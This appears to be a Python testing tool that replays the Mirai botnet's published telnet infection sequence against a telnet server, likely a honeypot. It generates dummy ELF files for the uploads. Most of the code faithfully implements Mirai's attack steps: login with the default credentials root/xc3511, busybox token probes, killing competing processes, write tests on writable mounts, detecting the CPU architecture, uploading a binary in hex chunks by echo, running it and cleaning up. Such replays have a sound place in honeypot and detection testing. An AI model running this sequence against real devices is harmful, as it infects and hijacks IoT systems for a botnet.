#!/usr/bin/env python3
"""Plays Mirai's published telnet sequences against a telnet server.

The steps, their order and what each waits for follow the public Mirai
source (2016): the bot's scanner (bot/scanner.c) and the loader
(loader/src/server.c, connection.c, binary.c, headers/includes.h).

bot phase, one connection (scanner.c's states SC_HANDLE_IACS ..
SC_WAITING_TOKEN_RESP): the user name at the login prompt, the password at
the password prompt, then "enable", "system", "shell", "sh", each sent after
a prompt, and "/bin/busybox MIRAI", whose answer must hold
"MIRAI: applet not found".

loader phase, a new connection (server.c's TELNET_* states):
  1. login, then "enable", "shell", "sh" at once, then TOKEN_QUERY
     ("/bin/busybox ECCHI"); every later step waits for TOKEN_RESPONSE
     ("ECCHI: applet not found") in what the server sends back;
  2. "/bin/busybox ps; ECCHI": the process list, where the loader kills a
     second init and processes over pid 400 with all-digit names;
  3. "/bin/busybox cat /proc/mounts; ECCHI"; for each mount with "rw" in its
     options (and /dev), the ".nippon" write test:
     "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69PATH' > PATH/.nippon;
     /bin/busybox cat PATH/.nippon; /bin/busybox rm PATH/.nippon", then
     ECCHI; the first path that came back after "kami" (shorter than 31)
     is the folder it works in, and "rm P/.t; rm P/.sh; rm P/.human" is sent
     for each;
  4. "cd DIR/", then "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper;
     /bin/busybox chmod 777 dvrHelper; ECCHI";
  5. "/bin/busybox cat /bin/echo" and ECCHI on two lines ("DO NOT COMBINE"):
     the ELF header in the output picks the architecture (EI_DATA,
     e_machine: arm, mips, mpsl, x86, ...); for arm, "cat /proc/cpuinfo;
     ECCHI" looks for ARMv7/ARMv6;
  6. "/bin/busybox wget; /bin/busybox tftp; ECCHI": the upload method
     (wget unless "wget: applet not found", then tftp, else echo);
  7. the echo upload: "/bin/busybox cp dvrHelper upnp; > upnp;
     /bin/busybox chmod 777 upnp; ECCHI", then the binary in lines of 128
     bytes, "echo -ne '\\x..\\x..' > upnp; ECCHI" (">>" after the first),
     each after the previous answer;
  8. "./upnp; ./dvrHelper TAG.ARCH; /bin/busybox IHCCE", waiting for
     "IHCCE: applet not found" (success needs "listening tun0");
  9. "rm -rf upnp; > dvrHelper; ECCHI", then the connection is closed.

The loader would use wget or tftp when the device has them; --upload echo
(the default) always takes the echo path, as the loader does when tftp is
refused, so that the upload is in the session; the method the loader would
have picked is reported.

    mirai_replay.py make-elf ARCH SIZE SEED OUT
        writes a 32-bit ELF of SIZE bytes for ARCH (arm, mips, mpsl, x86 ...)
    mirai_replay.py PORT --phase bot|loader|both [--host H] [-u USER] [-P PASS]
        [--binary FILE] [--expect-arch arm|mips|mpsl|...] [--out FILE]
        [--tag TAG] [--timeout S] [--upload echo|auto]

Prints (and writes to --out) one JSON object: "ok", "phase", the "lines"
sent after login on each connection, "arch", "elf" (class, data, machine),
"writedir", "upload_method_probe", "chunks", "binary_sha256", "transcript"
(the loader's connection as text). Exit status 0 when every phase reached
its end (and the arch is --expect-arch), 1 otherwise, with "error" saying
where it stopped.
"""
import argparse
import hashlib
import json
import os
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from telnet_client import CSI_RE, TelnetClient, TelnetClosed, TelnetTimeout  # noqa: E402

TOKEN_QUERY = "/bin/busybox ECCHI"
TOKEN_RESPONSE = b"ECCHI: applet not found"
EXEC_QUERY = "/bin/busybox IHCCE"
EXEC_RESPONSE = b"IHCCE: applet not found"
VERIFY_STRING_HEX = "\\x6b\\x61\\x6d\\x69"
VERIFY_STRING_CHECK = b"kami"
FN_DROPPER = "upnp"
FN_BINARY = "dvrHelper"
BYTES_PER_ECHOLINE = 128
# The characters after which the scanner and loader take text as a prompt.
PROMPT_CHARS = b":>$#%"

EM = {2: "spc", 3: "x86", 4: "m68k", 5: "m68k", 6: "x86", 7: "x86", 8: "mips",
      10: "mips", 18: "spc", 20: "ppc", 21: "ppc", 40: "arm", 42: "sh4", 43: "spc",
      62: "x86", 183: "arm"}


class Replay:
    def __init__(self, a):
        self.a = a
        self.res = {"ok": False, "phase": a.phase, "lines": {"bot": [], "loader": []}}
        self.conn = None
        self.which = None

    def connect(self, which):
        self.which = which
        self.conn = TelnetClient(self.a.host, self.a.port, self.a.timeout)
        self.res["stage"] = which + ": connect"

    def send(self, line):
        self.res["lines"][self.which].append(line)
        self.conn.send_line(line)

    def stage(self, what):
        self.res["stage"] = "%s: %s" % (self.which, what)

    def any_prompt(self):
        """consume_any_prompt: data ending in one of ':>$#%' (and a space)."""
        c = self.conn
        deadline = time.monotonic() + self.a.timeout
        while True:
            s = CSI_RE.sub(b"", bytes(c.buf)).rstrip(b" ")
            if s and s[-1:] in [bytes([x]) for x in PROMPT_CHARS]:
                out = bytes(c.buf)
                c.buf.clear()
                return out
            c._recv(deadline, "any prompt")

    def swallow(self):
        """The rest of a prompt ("ogin" and "assword" are matched without
        it): a colon and a space, when they came with it."""
        b = self.conn.buf
        while b[:1] in (b":", b" "):
            del b[:1]

    def token(self, resp=TOKEN_RESPONSE):
        return self.conn.read_until(resp)

    def login(self):
        c = self.conn
        self.stage("login prompt")
        c.read_until((b"ogin", b"enter"))
        self.swallow()
        self.conn.send_line(self.a.user)
        self.stage("password prompt")
        c.read_until(b"assword")
        self.swallow()
        self.conn.send_line(self.a.password)
        self.stage("prompt after the password")
        out = self.any_prompt()
        if b"ncorrect" in out or b"ogin:" in out:
            raise RuntimeError("the login was refused: %r" % out[-200:])

    # ---- the bot's scanner ----

    def bot(self):
        self.connect("bot")
        self.login()
        for word in ("enable", "system", "shell", "sh"):
            self.send(word)
            self.stage("prompt after " + word)
            self.any_prompt()
        self.send("/bin/busybox MIRAI")
        self.stage("MIRAI: applet not found")
        self.conn.read_until(b"MIRAI: applet not found")
        self.conn.close()
        self.res["bot_done"] = True

    # ---- the loader ----

    def loader(self):
        a = self.a
        self.connect("loader")
        self.login()
        for word in ("enable", "shell", "sh"):
            self.send(word)
        self.stage("prompt after enable/shell/sh")
        self.any_prompt()
        self.send(TOKEN_QUERY)
        self.stage("verify login")
        self.token()

        self.send("/bin/busybox ps; " + TOKEN_QUERY)
        self.stage("ps")
        self.parse_ps(self.token())

        self.send("/bin/busybox cat /proc/mounts; " + TOKEN_QUERY)
        self.stage("mounts")
        mounts = self.token()
        paths = self.rw_mounts(mounts)
        self.res["rw_mounts"] = paths
        for p in paths + ["/dev"]:
            self.send("/bin/busybox echo -e '%s%s' > %s/.nippon; /bin/busybox cat %s/.nippon; "
                      "/bin/busybox rm %s/.nippon" % (VERIFY_STRING_HEX, p, p, p, p))
        self.send(TOKEN_QUERY)
        self.stage("writable folders")
        written = self.token()
        self.res["writable"] = self.written_dirs(written)
        if not self.res["writable"]:
            raise RuntimeError("no folder passed the .nippon write test: %r" % written[-400:])
        for p in self.res["writable"]:
            self.send("rm %s/.t; rm %s/.sh; rm %s/.human" % (p, p, p))
        wd = next((p for p in self.res["writable"] if len(p) < 31), None)
        if wd is None:
            raise RuntimeError("every writable folder is 31 characters or longer")
        self.res["writedir"] = wd

        self.send("cd %s/" % wd)
        self.send("/bin/busybox cp /bin/echo %s; >%s; /bin/busybox chmod 777 %s; %s"
                  % (FN_BINARY, FN_BINARY, FN_BINARY, TOKEN_QUERY))
        self.stage("copy of /bin/echo")
        self.token()

        self.send("/bin/busybox cat /bin/echo")
        self.send(TOKEN_QUERY)
        self.stage("cat /bin/echo")
        self.arch_of(self.token())
        if a.expect_arch and self.res["arch"] != a.expect_arch:
            raise RuntimeError("the ELF header of /bin/echo says %s (%r), want %s"
                               % (self.res["arch"], self.res["elf"], a.expect_arch))
        if self.res["arch"] == "arm":
            self.send("cat /proc/cpuinfo; " + TOKEN_QUERY)
            self.stage("ARM subtype")
            cpu = self.token()
            if b"ARMv7" in cpu or b"ARMv6" in cpu:
                self.res["arch"] = "arm7"

        self.send("/bin/busybox wget; /bin/busybox tftp; " + TOKEN_QUERY)
        self.stage("upload methods")
        probe = self.token()
        if b"wget: applet not found" not in probe:
            method = "wget"
        elif b"tftp: applet not found" not in probe:
            method = "tftp"
        else:
            method = "echo"
        self.res["upload_method_probe"] = method
        if a.upload == "auto" and method != "echo":
            raise RuntimeError("the loader would use %s; this replay uploads by echo only" % method)

        data = open(a.binary, "rb").read() if a.binary else b""
        self.res["binary_sha256"] = hashlib.sha256(data).hexdigest()
        self.res["binary_size"] = len(data)
        self.send("/bin/busybox cp %s %s; > %s; /bin/busybox chmod 777 %s; %s"
                  % (FN_BINARY, FN_DROPPER, FN_DROPPER, FN_DROPPER, TOKEN_QUERY))
        self.stage("dropper prepared")
        self.token()
        chunks = [data[i:i + BYTES_PER_ECHOLINE] for i in range(0, len(data), BYTES_PER_ECHOLINE)]
        for n, ch in enumerate(chunks):
            hexs = "".join("\\x%02x" % b for b in ch)
            self.send("echo -ne '%s' %s %s; %s" % (hexs, ">" if n == 0 else ">>", FN_DROPPER,
                                                   TOKEN_QUERY))
            self.stage("echo line %d of %d" % (n + 1, len(chunks)))
            self.token()
        self.res["chunks"] = len(chunks)

        self.send("./%s; ./%s %s.%s; %s" % (FN_DROPPER, FN_BINARY, a.tag, self.res["arch"],
                                             EXEC_QUERY))
        self.stage("run")
        ran = self.token(EXEC_RESPONSE)
        self.res["payload_ran"] = b"listening tun0" in ran
        self.send("rm -rf %s; > %s; %s" % (FN_DROPPER, FN_BINARY, TOKEN_QUERY))
        self.stage("cleanup")
        self.token()
        self.res["transcript"] = self.conn.transcript.decode("latin-1")
        self.conn.close()
        self.res["loader_done"] = True

    def parse_ps(self, out):
        kills = []
        for line in out.replace(b"\r", b"").split(b"\n"):
            f = line.split()
            if len(f) < 4 or not f[0].isdigit():
                continue
            pid = int(f[0])
            name = f[-1] if len(f) >= 5 else f[3]
            if pid != 1 and name in (b"init", b"[init]"):
                kills.append(pid)
            elif pid > 400:
                digits = alphas = 0
                for ch in name:
                    if 48 <= ch <= 57:
                        digits += 1
                    elif (65 <= ch <= 90) or (97 <= ch <= 122):
                        alphas += 1
                        break
                if alphas == 0 and digits > 0:
                    kills.append(pid)
        for pid in kills:
            self.send("/bin/busybox kill -9 %d" % pid)
        self.res["killed"] = kills

    @staticmethod
    def rw_mounts(out):
        paths = []
        for line in out.replace(b"\r", b"").split(b"\n"):
            f = line.split()
            if len(f) < 4:
                continue
            path = f[1].decode("latin-1")
            if path.endswith("/"):
                path = path[:-1]
            if b"rw" in f[3]:
                paths.append(path)
        return paths

    @staticmethod
    def written_dirs(out):
        dirs = []
        text = out.replace(b"\r", b"")
        k = 0
        while True:
            k = text.find(VERIFY_STRING_CHECK, k)
            if k < 0:
                break
            k += len(VERIFY_STRING_CHECK)
            e = text.find(b"\n", k)
            dirs.append(text[k:e if e >= 0 else len(text)].decode("latin-1"))
        return dirs

    def arch_of(self, out):
        k = out.find(b"ELF")
        if k < 1:
            raise RuntimeError("no ELF header in the output of cat /bin/echo: %r" % out[:200])
        h = out[k - 1:k - 1 + 20]
        if len(h) < 20:
            raise RuntimeError("the ELF header is cut: %r" % h)
        ei_class, ei_data = h[4], h[5]
        machine = struct.unpack("<H" if ei_data == 1 else ">H", h[18:20])[0]
        arch = EM.get(machine)
        if arch == "mips" and ei_data == 1:
            arch = "mpsl"
        if arch is None:
            raise RuntimeError("unknown e_machine %d" % machine)
        self.res["elf"] = {"class": ei_class, "data": ei_data, "machine": machine}
        self.res["arch"] = arch


# e_machine and EI_DATA of the architectures make_elf knows.
ELF_ARCH = {"arm": (40, 1), "mips": (8, 2), "mpsl": (8, 1), "x86": (3, 1), "ppc": (20, 2),
            "sh4": (42, 1), "m68k": (4, 2), "spc": (2, 2)}


def make_elf(arch, size, seed):
    """A 32-bit executable ELF of size bytes for arch: a valid file header
    and one PT_LOAD program header, then pseudo-random bytes from seed (so
    that each persona's upload has its own hash and TLSH has a digest)."""
    import random
    machine, data = ELF_ARCH[arch]
    e = "<" if data == 1 else ">"
    ident = b"\x7fELF" + bytes([1, data, 1, 0]) + bytes(8)
    hdr = ident + struct.pack(e + "HHIIIIIHHHHHH", 2, machine, 1, 0x8074, 52, 0, 0, 52, 32, 1,
                              40, 0, 0)
    ph = struct.pack(e + "IIIIIIII", 1, 0, 0x8000, 0x8000, size, size, 5, 0x1000)
    rnd = random.Random(seed)
    body = bytes(rnd.getrandbits(8) for _ in range(max(0, size - len(hdr) - len(ph))))
    return (hdr + ph + body)[:size]


def main():
    if len(sys.argv) == 6 and sys.argv[1] == "make-elf":
        # make-elf ARCH SIZE SEED OUT
        with open(sys.argv[5], "wb") as f:
            f.write(make_elf(sys.argv[2], int(sys.argv[3]), int(sys.argv[4])))
        return 0
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("port", type=int)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--phase", choices=("bot", "loader", "both"), default="both")
    ap.add_argument("-u", "--user", default="root")
    ap.add_argument("-P", "--password", default="xc3511")
    ap.add_argument("--binary")
    ap.add_argument("--expect-arch")
    ap.add_argument("--tag", default="telnet")
    ap.add_argument("--timeout", type=float, default=15.0)
    ap.add_argument("--upload", choices=("echo", "auto"), default="echo")
    ap.add_argument("--out")
    a = ap.parse_args()
    r = Replay(a)
    rc = 0
    try:
        if a.phase in ("bot", "both"):
            r.bot()
        if a.phase in ("loader", "both"):
            r.loader()
        r.res["ok"] = True
    except (TelnetTimeout, TelnetClosed, RuntimeError, OSError) as e:
        r.res["error"] = str(e)
        if r.conn is not None:
            r.res["transcript"] = r.conn.transcript.decode("latin-1")
        rc = 1
    text = json.dumps(r.res)
    if a.out:
        with open(a.out, "w") as f:
            f.write(text + "\n")
    # The summary: the long lists stay in --out.
    short = {k: v for k, v in r.res.items() if k not in ("transcript", "lines")}
    short["lines_sent"] = {k: len(v) for k, v in r.res["lines"].items()}
    print(json.dumps(short))
    return rc


if __name__ == "__main__":
    sys.exit(main())
